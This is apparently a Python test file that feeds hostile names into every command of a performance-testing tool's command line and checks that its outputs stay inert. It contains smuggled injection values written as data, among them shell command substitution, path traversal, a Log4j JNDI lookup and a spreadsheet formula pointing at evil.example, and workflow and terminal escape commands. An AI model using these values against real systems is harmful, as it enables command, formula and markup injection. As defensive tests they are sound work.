"""Names from outside through every output of the command line: nothing executes, pings, breaks a table or a header.

`NAMES` are the names, `COMMANDS` what is driven with them; a command that writes results and is not there is found by
`test_every_command_is_swept`.  Each output is held against the check of its kind.
"""

import csv
import io
import json
import re
import subprocess
import unicodedata
from email import policy
from email.parser import BytesParser
from html.parser import HTMLParser
from itertools import groupby
from xml.etree import ElementTree

import click
import cmarkgfm
import numpy as np
import pytest
from browser import DRAWN, Opened, needs_chromium
from command_line import invoke
from github_server import REPOSITORY
from histories import nights, stored
from report_folders import HOSTILE

from perfkit.cli import perfkit
from perfkit.cli.bisect import result_text as bisect_text
from perfkit.loadgen.bisect import BisectResult, Step
from perfkit.model.records import Check, Severity, Validity
from perfkit.runs.git import Commit

NAMES = (
    *HOSTILE,
    "@everyone fixes #1, see www.evil.example and a@evil.example",
    "a | b\r\n| --- | --- |\r\n# head\r\n\r\n    code",
    "::error title=pwned::pwned ##[error]pwned ::stop-commands::x",
    '=HYPERLINK("http://evil.example","x")',
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x07\x00",
    "--output=pwned; $(touch pwned) `touch pwned` 'x' \"y\" ../../pwned",
    "]]><x/><!-- ${jndi:ldap://evil.example} {{ 7*7 }} %s %(x)s {0}",
)
ALL = " ".join(name for name in NAMES if len(name) < 1000) + "x" * 10_000
SAID = ALL.replace("\0", "")  # no operating system hands a null character to a command
SLOWER = 1.5
AT, LAST = 26, 34  # the run that begins the event, and the number of runs


def _unfit(*severities):
    return Validity(tuple(Check(NAMES[4], NAMES[0], NAMES[1], severity, ALL) for severity in severities))


def _facts(commit):
    texts = {name[:60]: name for name in NAMES}
    return {
        "scenario": NAMES[0] + NAMES[5],
        "target": f"http://{ALL}",
        "labels": texts,
        "environment": texts,
        "versions": texts,
        "git": {"commit": commit, "branch": ALL, "dirty": NAMES[0]},
        "validity": _unfit(Severity.WARN),
    }


def _git(folder, *words):
    given = ["-c", "user.name=</script>@everyone\u202e", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false"]
    done = subprocess.run(["git", *given, *words], cwd=folder, check=True, capture_output=True, text=True)
    return done.stdout.strip()


class House:
    """A folder with a repository, a store whose names are hostile, and results of it."""

    def __init__(self, folder):
        self.folder, rng = folder, np.random.default_rng(7)
        (folder / "repository").mkdir()
        _git(folder / "repository", "init", "-q", "-b", "main")
        subjects = [name.replace("\x00", "") or "x" for name in NAMES]
        for subject in subjects:
            _git(folder / "repository", "commit", "-q", "--allow-empty", "-m", subject)
        self.commits = _git(folder / "repository", "log", "--reverse", "--format=%H").split()
        groups = [
            nights(rng, AT, services=NAMES, **_facts(self.commits[0])),
            nights(rng, LAST - AT, first=AT, services=NAMES, factor=SLOWER, **_facts(self.commits[-1])),
        ]
        self.store, self.ids = stored(folder / "runs", *groups)
        self.unfit = self._unfit_run(rng)
        (folder / "perfkit.toml").write_text(
            'store = "runs"\nreports = "reports"\nbaselines = "baselines"\nacknowledged = "acknowledged.json"\n'
            'delivery = "delivery"\n[email]\nfrom = "perf@example.org"\nto = ["team@example.org"]\nwhen = "always"\n'
            f'[issues]\nrepository = "{REPOSITORY}"\n[chat]\nwhen = "always"\n'
        )

    def _unfit_run(self, rng):
        facts = _facts(self.commits[-1]) | {"validity": _unfit(Severity.INVALID, Severity.WARN)}
        _, (run_id,) = stored(self.folder / "other", nights(rng, 1, first=99, services=NAMES, **facts))
        return str(self.folder / "other" / run_id)


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    return House(tmp_path_factory.mktemp("house"))


@pytest.fixture
def here(house, monkeypatch):
    monkeypatch.chdir(house.folder)
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    return house


@pytest.fixture(scope="module")
def results(house):
    """Of two sides, of the newest run against its history, and of runs that cannot be judged."""
    two = [*house.ids[:3], "--candidate", *house.ids[-3:]]
    sides = {"two": two, "history": ["--candidate", house.ids[-1]], "unfit": [*two, house.unfit]}
    files = {name: house.folder / f"{name}.json" for name in sides}
    codes = {}
    for name, words in sides.items():
        place = ("--settings", house.folder / "perfkit.toml", "--store", house.store.url)
        codes[name] = invoke("compare", *words, *place, "--format", "json", "--output", files[name])[0]
    assert codes == {"two": 1, "history": 1, "unfit": 3}
    return files


# What each kind of output must be ----------------------------------------------------------------------------------


def check_text(text):
    """Nothing that moves a terminal's cursor, turns its text around, or commands the runner of a workflow."""
    strange = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")} - {"\n"}
    assert not strange
    assert not [line for line in text.split("\n") if re.match(r"\s*::[\w-]+[^:]*::", line)]
    assert "##[" not in text


def check_json(text):
    assert json.loads(text, parse_constant=pytest.fail) is not None
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", text)


class Tags(HTMLParser):
    """The tags of a page with their attributes, and its text outside code."""

    def __init__(self, page):
        super().__init__()
        self.found, self.text, self._code = [], "", 0
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))
        self._code += tag in ("code", "pre")

    def handle_endtag(self, tag):
        self._code -= tag in ("code", "pre")

    def handle_data(self, data):
        self.text += "" if self._code else data


PLAIN_TAGS = {"p", "ul", "ol", "li", "h1", "h2", "h3", "h4", "strong", "em", "code", "pre", "br", "sub", "hr"}
PLAIN_TAGS |= {"details", "summary", "table", "thead", "tbody", "tr", "th", "td"}


def check_markdown(text):
    """As GitHub's own renderer sees it: no link, picture, mention or reference, and tables of equal rows."""
    shown = Tags(cmarkgfm.github_flavored_markdown_to_html(text, options=cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE))
    assert {tag for tag, _ in shown.found} <= PLAIN_TAGS
    assert not {name for _, given in shown.found for name in given} - {"align", "lang", "class", "open"}
    assert not re.search(r"@\w|#\d|\bGH-\d|:\w+:", shown.text)
    for is_table, lines in groupby(text.split("\n"), key=lambda line: line.startswith("|")):
        assert not is_table or len({line.count("|") for line in lines}) == 1
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\x00-\x09\x0b-\x1f]", text)


def check_xml(text):
    root = ElementTree.fromstring(text)
    known = {"testsuites", "testsuite", "testcase", "properties", "property", "system-out", "system-err"}
    assert {one.tag for one in root.iter()} <= known | {"failure", "error", "skipped"}
    assert not re.search(r"[\u202a-\u202e\x00-\x08]", text)


def check_page(page):
    """A page without scripts of its own: no script, handler, form or frame, and nothing from elsewhere."""
    tags = Tags(page).found
    assert not {tag for tag, _ in tags} & {"script", "iframe", "object", "form", "base", "link", "svg", "x"}
    for tag, given in tags:
        assert not [name for name in given if name.startswith("on")], tag
        links = [given.get(name) or "" for name in ("href", "src", "background", "action")]
        assert not [link for link in links if re.match(r"\s*(https?|javascript|data|//)", link, re.IGNORECASE)]
    assert not re.search(r"[\u202a-\u202e\x00-\x08]", page)


HEADERS = {"subject", "from", "to", "date", "message-id", "mime-version", "content-type", "auto-submitted"}
HEADERS |= {"content-transfer-encoding", "content-language", "x-auto-response-suppress"}


def check_mail(text):
    message = BytesParser(policy=policy.default).parsebytes(text.encode())
    assert {name.lower() for name in message} <= HEADERS
    assert (message["To"], message["From"]) == ("team@example.org", "perf@example.org")
    assert len(message["Subject"]) < 250
    for part in message.walk():
        assert part.defects == []
        assert re.fullmatch(r"[\w.-]{0,120}", part.get_filename("")), part.get_filename()
    check_text(message["Subject"])
    check_text(message.get_body(("plain",)).get_content())
    check_page(message.get_body(("html",)).get_content())


def check_annotations(text):
    for line in text.splitlines():
        assert re.match(r"::(error|warning|notice) title=[^:,\x00-\x1f]*::\S", line)
    check_text(re.sub(r"(?m)^::\w+ title=", "", text))


def check_csv(text):
    """A spreadsheet takes no cell for a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    assert not {cell for row in rows for cell in row if re.match(r"[=+@\t\r]|-(?![\d.]+$)", cell)}


def check_chat(text):
    """What chats show, as the document for the webhook has it."""
    first, _, document = text.partition("\n")
    assert first.endswith("not sent:")
    check_json(document)
    told = json.loads(document)["text"]
    check_text(told)
    assert not re.search(r"@\w|<[!@#\w]|\]\(|\w://|[*`|~]", told)


COMMITS_LINK = r"\[[0-9a-f]{9}\.\.[0-9a-f]{9}\]\(https://github\.com/octo/shop/compare/[0-9a-f]{40}\.{3}[0-9a-f]{40}\)"


def check_call(text):
    """The requests of GitHub: JSON whose titles are lines and whose bodies are harmless Markdown."""
    calls = json.loads(text)
    assert calls
    for call in calls:
        title, body = call["json"].get("title", ""), call["json"].get("body", "")
        check_text(title.replace("\u200b", ""))  # breaks mentions
        assert "@everyone" not in title
        check_markdown(re.sub(rf"<!--[^<>]*-->|{COMMITS_LINK}", "", body))


# What is driven -----------------------------------------------------------------------------------------------------

TWO, HISTORY, UNFIT = "two.json", "history.json", "unfit.json"
COMMANDS = {  # words of a command, and what its standard output must be; {first}, {last}, {unfit} are runs
    "compare {first} --candidate {last} {unfit}": check_text,
    "compare {first} --candidate {last}": check_text,
    "compare {first} --candidate {last} --rule threshold": check_text,
    "compare --candidate {last}": check_text,
    "compare --candidate {last} --format json": check_json,
    "compare --candidate {last} --format markdown": check_markdown,
    "compare {first} --candidate {last} {unfit} --format markdown": check_markdown,
    "compare {first} --candidate {last} --rule threshold --format markdown": check_markdown,
    "compare --candidate {last} --format junit": check_xml,
    "compare {first} --candidate {last} {unfit} --format junit": check_xml,
    "compare {first} --candidate {last} --explain nothing p95_latency_ms": check_text,
    "changes --repository repository": check_text,
    "changes --repository repository --format markdown": check_markdown,
    "changes --repository repository --format json": check_json,
    "runs list": check_text,
    "runs list --format json": check_json,
    "runs list --scenario nothing": check_text,
    "runs show {last}": check_text,
    "runs show {last} --format json": check_json,
    "runs export": check_csv,
    "runs export --format json": check_json,
    "runs verify": check_text,
    "runs redact --all --dry-run": check_text,
    "runs gc --requests-older-than 1d --dry-run": check_text,
    "runs rm {last} --dry-run": check_text,
    "baseline list": check_text,
    "baseline show anchor": check_text,
    "baseline show anchor --format json": check_json,
    "baseline extract {last} --output b.json": check_text,
    "ack --list": check_text,
    "ack --list --format json": check_json,
    "plan --detect 5% --scenario {scenario}": check_text,
    "plan --detect 5% --scenario {scenario} --format json": check_json,
    "replay {scenario} --window 5": check_text,
    "replay {scenario} --window 5 --format json": check_json,
    f"summary {TWO} {HISTORY} {UNFIT}": check_markdown,
    f"summary {TWO} {HISTORY} {UNFIT} --annotations": check_annotations,
    f"summary {TWO} {HISTORY} {UNFIT} --junit junit.xml": check_text,
    f"issue {HISTORY} --checkout repository --dry-run": check_call,
    f"issue {TWO} --checkout repository --dry-run": check_call,
    f"comment {TWO} {HISTORY} {UNFIT} --pull-request 1 --repository octo/shop --dry-run": check_call,
    f"notify {TWO} --dry-run --webhook http://127.0.0.1:9/": check_chat,
    f"notify {HISTORY} --dry-run --webhook http://127.0.0.1:9/ --repository repository": check_chat,
    f"email {TWO} --dry-run mail.eml": check_text,
    f"email {HISTORY} --dry-run mail.eml --repository repository": check_text,
    f"email {TWO} {HISTORY} {UNFIT} --digest --dry-run mail.eml": check_text,
    "check --settings-only": check_text,
    "store sync runs copy": check_text,
}
FILES = {"mail.eml": check_mail, "junit.xml": check_xml, "b.json": check_json}  # what a command wrote
REPORTS = (  # each as an HTML report; {all} is every name as one text
    "report compare {first} --candidate {last} {unfit} --title {all}",
    "report result history.json --title {all}",
    "report --all --newest 1 --jobs 2",
)
ELSEWHERE = {  # what writes no names into anything, or is driven by another test here or beside
    "run": "starts load, and tells as compare does",
    "bisect": "test_what_bisect_says",
    "report baseline": "test_reports_in_a_browser",
    "report compare": "test_reports_in_a_browser",
    "report trend": "test_reports_in_a_browser",
    "report capacity": "test_report has a hostile service",
    "report result": "test_reports_in_a_browser",
    "demo": "has its own services",
    "lab": "starts JupyterLab",
    "runs quarantine": "test_reasons_are_told_as_text",
    "import": "prints run ids",
    "metrics": "is a file of numbers, with names as JSON writes them",
    "baseline pin": "test_reasons_are_told_as_text",
    "baseline accept": "says what pin says",
    "simulate": "has its own services",
    "init": "writes a template",
    "completion": "prints a script",
    "docs": "prints pages that come with the package",
}


def filled(words, house):
    known = {
        "all": [ALL],
        "first": house.ids[:3],
        "last": house.ids[-1:],
        "unfit": [house.unfit],
        "scenario": [_facts("")["scenario"]],
    }
    for word in words.split():
        yield from known.get(word.strip("{}"), [word]) if word.startswith("{") else [word]


@pytest.fixture(scope="module")
def reasons(house):
    """A pinned baseline and an acknowledged event, for hostile reasons, by hostile people."""
    place = ("--settings", house.folder / "perfkit.toml", "--store", house.store.url)
    given = (f"--reason={SAID}", f"--by={NAMES[6]}")
    told = [
        invoke("baseline", "pin", "anchor", *house.ids[:12], *given, *place),
        invoke("runs", "quarantine", house.ids[5], *given, *place),
        invoke("runs", "quarantine", *place),
        invoke("runs", "quarantine", house.ids[5], "--lift", *place),
    ]
    assert [code for code, *_ in told] == [0] * len(told), told
    return told


def test_reasons_are_told_as_text(reasons):
    for _, out, err in reasons:
        check_text(out)
        check_text(err)


@pytest.mark.parametrize("words", COMMANDS)
def test_names_are_nothing_but_names(words, here, results, reasons):
    code, out, err = invoke(*filled(words, here))
    assert code in (0, 1, 2, 3), err
    assert out or err
    assert "Traceback" not in err
    check_text(err)
    if out:
        COMMANDS[words](out)
    for name, check in FILES.items():
        if name in words:
            check((here.folder / name).read_text(encoding="utf-8"))
    assert not list(here.folder.rglob("pwned"))


def test_an_acknowledged_event_is_told_as_text(here, results):
    file = here.folder / "acknowledged.json"
    code, out, err = invoke("ack", here.ids[AT], f"--reason={SAID}", f"--by={NAMES[6]}")
    try:
        assert code == 0, err
        check_text(out + err)
        for words in ("ack --list", *(one for one in COMMANDS if one.startswith(("compare --candidate", "changes")))):
            COMMANDS[words](invoke(*filled(words, here))[1])
    finally:
        file.unlink(missing_ok=True)


def _commands(group, begin=""):
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            yield from _commands(command, f"{begin}{name} ")
        else:
            yield f"{begin}{name}"


def test_every_command_is_swept():
    swept = [f"{words} " for words in COMMANDS]
    missing = {one for one in _commands(perfkit) if not any(words.startswith(f"{one} ") for words in swept)}
    assert missing == set(ELSEWHERE)


def test_what_bisect_says(tmp_path):
    commit = Commit("1" * 40, NAMES[0], NAMES[6], ALL)
    steps = tuple(Step(commit.id, "bad", name, name, "p95_latency_ms", 20.0, 18.0, 22.0, "%") for name in NAMES)
    for suspects in ((), (commit,), (commit, commit)):
        result = BisectResult("2" * 40, commit.id, suspects, steps[0], steps, tmp_path)
        check_text(bisect_text(result))
        check_json(json.dumps(result.to_dict()))


def test_errors_are_told_as_text(here):
    for name in (*NAMES, ALL):
        for words in (
            ("compare", "--candidate", name),
            ("plan", f"--scenario={name}", "--detect=5%"),
            ("summary", name),
        ):
            code, out, err = invoke(*(word.replace("\x00", "") for word in words))
            assert code in (2, 4), err
            assert out == ""
            check_text(err)


@pytest.fixture(scope="module")
def pages(house, results):
    """The pages that `REPORTS` write."""
    for words in REPORTS:
        place = ["--settings", house.folder / "perfkit.toml"]
        place += [] if words.startswith("report result") else ["--store", house.store.url]
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(house.folder)
            code, out, err = invoke(*filled(words, house), *place)
        assert code in (0, 1, 3), err
        check_text(out)
        check_text(err)
    return sorted((house.folder / "reports").rglob("*.html"))


@pytest.mark.slow
class TestInABrowser:
    """With the network off, on a telephone: no script but ours, nothing asked for, no dialog, nothing cut off."""

    pytestmark = needs_chromium

    def test_reports_in_a_browser(self, browser, pages):
        names = {page.name for page in pages}
        assert names == {"report.html", "index.html"}
        assert len(pages) >= 6
        for page in pages:
            opened = Opened(browser, page, 400, until=None if page.name == "index.html" else DRAWN)
            self._harmless(opened, page)

    def test_mail_in_a_browser(self, browser, here, results):
        invoke(*filled(f"email {TWO} {HISTORY} {UNFIT} --digest --dry-run mail.eml", here))
        message = BytesParser(policy=policy.default).parsebytes((here.folder / "mail.eml").read_bytes())
        page = here.folder / "mail.html"
        page.write_text(message.get_body(("html",)).get_content(), encoding="utf-8")
        opened = Opened(browser, page, 400, until=None)
        opened.asked = [one for one in opened.asked if not one.startswith("cid:")]
        opened.said = [one for one in opened.said if "ERR_UNKNOWN_URL_SCHEME" not in one]
        self._harmless(opened, page)

    def _harmless(self, opened, page):
        assert opened.said == [], page
        assert [one for one in opened.asked if not one.startswith(("data:", "blob:"))] == [page.as_uri()]
        assert opened.page.evaluate("window.pwned") is None
        assert opened.page.evaluate("document.documentElement.scrollWidth") <= 400, page
        assert opened.count("main img[src='x'], main a[href^='javascript'], main [onerror]") == 0
